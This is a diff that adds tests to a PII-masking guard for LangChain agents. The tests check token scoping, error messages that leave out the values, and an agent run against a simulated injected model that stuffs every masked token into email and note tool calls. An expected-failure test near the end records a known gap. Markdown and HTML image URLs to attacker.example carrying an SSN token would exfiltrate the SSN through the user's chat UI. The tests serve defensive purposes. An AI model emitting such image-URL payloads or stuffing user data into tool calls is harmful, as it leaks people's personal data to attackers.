@@ -930,3 +930,95 @@ def test_sdk_non_text_content_parts_are_masked(provider: Any, mem: Guard) -> Non
         ],
     )
     assert leaked(provider.requests[-1].raw) == []
+
+
+# ============================================================================ more exfiltration paths
+
+
+def test_granted_tool_never_resolves_another_scopes_token(mem: Guard) -> None:
+    seen: list[str] = []
+
+    @tool
+    def send_email(to: str) -> str:
+        """Send an email."""
+        seen.append(to)
+        return "sent"
+
+    tok = mem.mask(EMAIL, scope="A")
+    mem.mask(SSN, scope="B")
+    wrapped = mem.wrap_tool(send_email, reveal=["EMAIL_ADDRESS"])
+    wrapped.invoke(tool_call("send_email", {"to": tok}), config={"configurable": {"thread_id": "B"}})
+    assert seen == [tok]
+    assert any(r.event == "foreign_token" and r.scope == "B" for r in mem.audit.query())
+
+
+def test_blocked_type_error_names_the_type_and_rule_not_the_value() -> None:
+    g = Guard(policy={"version": 1, "entities": {"US_SSN": {"action": "block"}}}, store="memory://")
+    with pytest.raises(GuardError) as info:
+        g.mask(f"ssn {SSN}", scope="s")
+    text = exc_chain_text(info.value, suppressed=True)
+    assert "US_SSN" in str(info.value) and leaked(text) == []
+    assert leaked(json.dumps([r.to_dict() for r in g.audit.query()], default=str)) == []
+
+
+class StuffingModel(RecordingToolModel):
+    """An injected model: puts every token it saw into the body of the granted tool's call."""
+
+    def _reply(self, messages: list[Any]) -> Any:
+        from langchain_core.messages import AIMessage, ToolMessage
+
+        from tests.lc_support import TOKEN
+
+        with self._lock:
+            self.seen.append(list(messages))
+        if any(isinstance(m, ToolMessage) for m in messages):
+            return AIMessage(content="done")
+        text = " ".join(str(m.content) for m in messages)
+        toks = [m.group(0) for m in TOKEN.finditer(text)]
+        email = next(t for t in toks if t.startswith("[EMAIL"))
+        return AIMessage(
+            content="",
+            tool_calls=[
+                {"name": "send_email", "args": {"to": email, "body": " ".join(toks)}, "id": "c1"},
+                {"name": "log_note", "args": {"text": " ".join(toks)}, "id": "c2"},
+            ],
+        )
+
+
+def test_agent_middleware_exfiltration_gets_only_granted_types(mem: Guard) -> None:
+    from langchain.agents import create_agent
+
+    from tests.lc_support import ToolLog, make_tools
+
+    log = ToolLog()
+    send_email, log_note = make_tools(log)
+    model = StuffingModel()
+    agent = create_agent(
+        model, [send_email, log_note], middleware=[mem.middleware(reveal={"send_email": ["EMAIL_ADDRESS"]})]
+    )
+    out = agent.invoke(
+        {"messages": [HumanMessage(f"I am {NAME}, mail {EMAIL}, card {CARD}, ssn {SSN}")]}, config=CFG
+    )
+    assert log.of("send_email")[0]["to"] == EMAIL
+    assert leaked(log.of("send_email")[0]["body"], (NAME, CARD, SSN)) == []
+    assert leaked(json.dumps(log.of("log_note"))) == []
+    assert leaked(model.seen_text()) == []
+    assert out["messages"]  # the run finished
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="unmask(to='user') restores tokens inside URLs (Markdown image/link targets, <img src>): "
+    "an injected ![](https://attacker/?d=[SSN_1]) makes the user's chat UI send the SSN to the attacker",
+)
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![chart](https://attacker.example/p.png?d=[SSN_1])",
+        '<img src="https://attacker.example/p.png?d=%5BSSN_1%5D">',
+    ],
+    ids=["markdown-image", "html-img-urlencoded"],
+)
+def test_restore_for_the_user_does_not_build_exfiltration_urls(mem: Guard, answer: str) -> None:
+    assert mem.mask(f"ssn {SSN}", scope="s") == "ssn [SSN_1]"
+    assert SSN not in mem.unmask(answer, scope="s", to="user")
